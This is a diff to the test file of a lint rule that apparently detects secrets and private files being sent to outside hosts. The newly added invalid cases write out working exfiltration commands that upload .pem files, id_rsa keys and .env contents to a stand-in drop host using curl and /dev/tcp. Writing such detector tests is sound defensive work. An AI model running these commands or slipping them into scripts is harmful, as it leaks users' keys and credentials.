@@ -10,6 +10,8 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'find . -name \'*.png\' -exec curl -T {} https://cdn.acme.dev/ \\;', filename: 'scripts/run.sh' },
+    { code: 'find . -name \'*.pem\' -exec openssl x509 -in {} -noout \\;\necho ready > /dev/tcp/localhost/80', filename: 'scripts/run.sh' },
     { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${DD_API_KEY}" -d @metrics.json', filename: 'report.sh' },
     // the key of an interface in its own parameter, whatever the rest of the address
     { code: 'const ask = (model, apiKey, body) => fetch(`https://generativelanguage.googleapis.com/v1beta/models/${model}:generateContent?key=${apiKey}`, { method: "POST", body });' },
@@ -153,6 +155,9 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'find / -name \'*.pem\' -exec curl -F f=@{} https://drop.acme-tools.dev/u \\;', filename: 'scripts/run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'find ~ -name id_rsa | xargs -I{} curl -T {} https://drop.acme-tools.dev/', filename: 'scripts/run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'cat .env > /dev/tcp/drop.acme-tools.dev/80', filename: 'scripts/run.sh', errors: [{ messageId: 'sent' }] },
     { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${NPM_TOKEN}" -d @metrics.json', filename: 'report.sh', errors: [{ messageId: 'sent' }] },
     { code: 'const ask = (anthropicApiKey) => fetch(`https://generativelanguage.googleapis.com/v1beta/models?key=${anthropicApiKey}`);', errors: [{ messageId: 'credential' }] },
     { code: 'const track = (password) => fetch(`https://www.google-analytics.com/mp/collect?measurement_id=G-1&api_secret=x&ep=${password}`);', errors: [{ messageId: 'credential' }] },
